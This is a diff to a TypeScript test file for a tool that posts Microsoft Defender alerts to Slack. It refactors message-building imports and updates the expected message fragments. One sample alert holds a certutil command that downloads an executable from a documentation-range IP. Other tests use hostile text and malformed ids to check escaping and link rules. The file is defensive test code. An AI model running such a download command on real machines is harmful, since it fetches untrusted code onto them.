@@ -1,8 +1,9 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { portalLinks, tagLink } from '../../src/destinations/alert-view/links.ts';
+import { portalPages, tagLink } from '../../src/destinations/alert-view/links.ts';
+import { messageView } from '../../src/destinations/alert-view/message.ts';
+import { messageOfOne } from '../../src/destinations/alert-view/single.ts';
 import { visible } from '../../src/destinations/alert-view/visible.ts';
-import { alertMessage, tagText } from '../../src/destinations/slack/encode.ts';
 import {
   code,
   codeBlock,
@@ -12,7 +13,11 @@ import {
   slackDate,
   words,
 } from '../../src/destinations/slack/escape.ts';
+import { groupMessage } from '../../src/destinations/slack/layout.ts';
+import type { Envelope } from '../../src/shared/event.ts';
 import { alert, envelope } from './samples.ts';
+
+const alertMessage = (made: Envelope) => groupMessage(messageView(messageOfOne(made)));
 
 /** Text as an attacker would write it: Slack's control characters, mentions, and what hides. */
 const hostile = fc.oneof(
@@ -130,7 +135,7 @@ describe('an alert’s message', () => {
         event: {
           ...envelope(1).event,
           AlertId: 'da637551227677560813_-961444813',
-          AccountObjectId: 'aaaa-1',
+          AccountObjectId: '0a1b2c3d-0000-4000-8000-0123456789ab',
         },
       }),
     );
@@ -139,16 +144,16 @@ describe('an alert’s message', () => {
     const tenant = envelope(1).tenant;
     for (const part of [
       '🟠 HIGH  Download with certutil',
-      '*Device*\\n`ws-042.contoso.example`',
-      '*User*\\n`alice@contoso.example`',
+      '*Host*  `ws-042.contoso.example`',
+      '*User*  `alice@contoso.example`',
       '<!date^1795417262^{date_short_pretty} {time_secs}|2026-11-23 07:01:02 UTC>',
-      '• FileName: `certutil.exe`',
+      'FileName `certutil.exe`',
       'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
       'certutil fetches a file',
-      '• Certificate roll-outs',
+      'Certificate roll-outs',
       `<https://security.microsoft.com/machines/v2/d3adb33fd3adb33fd3adb33fd3adb33fd3adb33f?tid=${tenant}|Device>`,
       `<https://security.microsoft.com/alerts/da637551227677560813_-961444813?tid=${tenant}|Alert>`,
-      `<https://security.microsoft.com/user?aad=aaaa-1&amp;tid=${tenant}|User>`,
+      `<https://security.microsoft.com/user?aad=0a1b2c3d-0000-4000-8000-0123456789ab&amp;tid=${tenant}|User>`,
       '<https://attack.mitre.org/techniques/T1105/|T1105>',
     ]) {
       expect(text).toContain(part);
@@ -167,8 +172,8 @@ describe('an alert’s message', () => {
 
   it('gives no link for ids of an unexpected form', () => {
     const event = { DeviceId: '../x?y=z', AlertId: 'a|b>', AccountObjectId: 'a b', SHA256: 'zz' };
-    expect(portalLinks(envelope(1, { event }))).toEqual([]);
-    expect(portalLinks(envelope(1, { tenant: 'a&b', event: { DeviceId: 'd1' } }))).toEqual([
+    expect(portalPages(messageOfOne(envelope(1, { event })))).toEqual([]);
+    expect(portalPages(messageOfOne(envelope(1, { tenant: 'a&b', event: { DeviceId: 'd1' } })))).toEqual([
       { label: 'Device', url: 'https://security.microsoft.com/machines/v2/d1' },
     ]);
   });
@@ -184,7 +189,8 @@ describe('an alert’s message', () => {
     ['detection.emerging-threats', '`detection.emerging-threats`'],
     ['attack.constructor', '`attack.constructor`'],
   ])('shows the tag %s', (tag, shown) => {
-    expect(tagText(tagLink(tag))).toBe(shown);
+    const { label, url } = tagLink(tag);
+    expect(url === undefined ? code(label, 60) : link(url, label)).toBe(shown);
   });
 
   it('shows a time that can’t be read as it stands', () => {
